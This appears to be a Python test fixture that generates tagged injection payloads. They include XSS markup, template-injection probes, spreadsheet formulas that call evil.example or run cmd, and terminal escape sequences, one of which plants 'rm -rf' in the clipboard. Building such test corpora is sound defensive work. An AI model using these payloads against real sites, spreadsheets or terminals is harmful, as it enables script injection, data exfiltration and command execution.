"""Texts that try to become more than text: markup and script, formulas of spreadsheets, escapes of terminals.

Each carries a mark of its own, so that a test can find it again. Standard library only.
"""

from __future__ import annotations

from itertools import product

_CODE = "alert({n})"
_MARKUP = (
    "<script>{c}</script>",
    "</script><script>{c}</script>",
    "<ScRiPt src=//evil.example/{n}.js></ScRiPt>",
    "<img src=x onerror={c}>",
    '"><img src=x onerror={c}>',
    "'><svg onload={c}>",
    "<svg><script>{c}</script></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<iframe src='javascript:{c}'></iframe>",
    "<iframe srcdoc='<script>{c}</script>'></iframe>",
    "<a href='javascript:{c}'>go {n}</a>",
    "<a href='data:text/html,<script>{c}</script>'>go</a>",
    "<body onload={c}>",
    "<details open ontoggle={c}>",
    "<math><mtext><style><img src=x onerror={c}></style>",
    "<style>@import '//evil.example/{n}.css';</style>",
    "</style><script>{c}</script>",
    "</title><script>{c}</script>",
    "</textarea><script>{c}</script>",
    "</pre></td></tr></table><h1>owned {n}</h1>",
    "--><script>{c}</script><!--",
    "<!--<img src='--><img src=x onerror={c}>'>",
    "]]><script>{c}</script><![CDATA[",
    "<base href='//evil.example/{n}/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<link rel=stylesheet href='//evil.example/{n}.css'>",
    "<form action='//evil.example/{n}'><button>go</button></form>",
    "<object data='//evil.example/{n}'></object>",
    "<embed src='//evil.example/{n}.swf'>",
    "<video><source onerror={c}></video>",
    "<input autofocus onfocus={c}>",
    "<template><script>{c}</script></template>",
    "' onmouseover='{c}' x='",
    '" style="background:url(//evil.example/{n})" x="',
    "&lt;script&gt;{c}&lt;/script&gt;",
    "&#60;script&#62;{c}&#60;/script&#62;",
    "{{ cycler.__init__.__globals__ }} {n}",
    "{% include '/etc/passwd' %} {n}",
    "${7*7}`{c}`",
    "javascript:{c}//",
)
_AROUND = ("{}", "note {} end", "<b>{}")
_FORMULAS = tuple(
    sign + body
    for sign, body in product(
        "=+-@",
        (
            "HYPERLINK(\"http://evil.example/{n}\",\"go\")",
            "cmd|' /C calc {n}'!A0",
            "IMPORTXML(CONCAT(\"//evil.example/{n}\",A1),\"//a\")",
            "SUM({n},1)*cmd|'x'!A1",
            "WEBSERVICE(\"//evil.example/{n}\")",
        ),
    )
)  # fmt: skip
_CONTROLS = (
    *(f"\x1b[{code} ansi {{n}}" for code in ("2J", "31m", "1;1H", "?1049h", "6n", "0c", "8m", "200~", "3J", "s")),
    *(f"\x1b]{code}\x07 osc {{n}}" for code in ("0;owned", "52;c;cm0gLXJm", "8;;http://evil.example", "1337;File=:x")),
    *(f"\x1b{code} esc {{n}}" for code in ("c", "P+q544e\x1b\\", "_x\x1b\\", "^x\x1b\\", "#8", "(0", "7", "[!p")),
    *(f"{chr(code)}31m control {{n}}" for code in (*range(1, 9), 11, 12, *range(14, 32), 127)),
    *(f"{chr(code)}2J c1 {{n}}" for code in range(0x80, 0xA0)),
    *(f"{chr(code)}bidi {{n}}" for code in (0x200E, 0x202A, 0x202B, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x061C)),
    *("a{n}\u200bb", "a{n}\ufeffb", "a{n}\u2028b", "a{n}\u2029b", "a{n}\u00adb", "a{n}\U000e0041b"),
)


def _made() -> list[str]:
    shapes = [around.replace("{}", markup) for markup in _MARKUP for around in _AROUND]
    shapes += [*_FORMULAS, *(f"p{{n}} {control}" for control in _CONTROLS)]
    return [shape.replace("{c}", _CODE).replace("{n}", f"{n:03d}") for n, shape in enumerate(shapes)]


PAYLOADS: list[str] = _made()
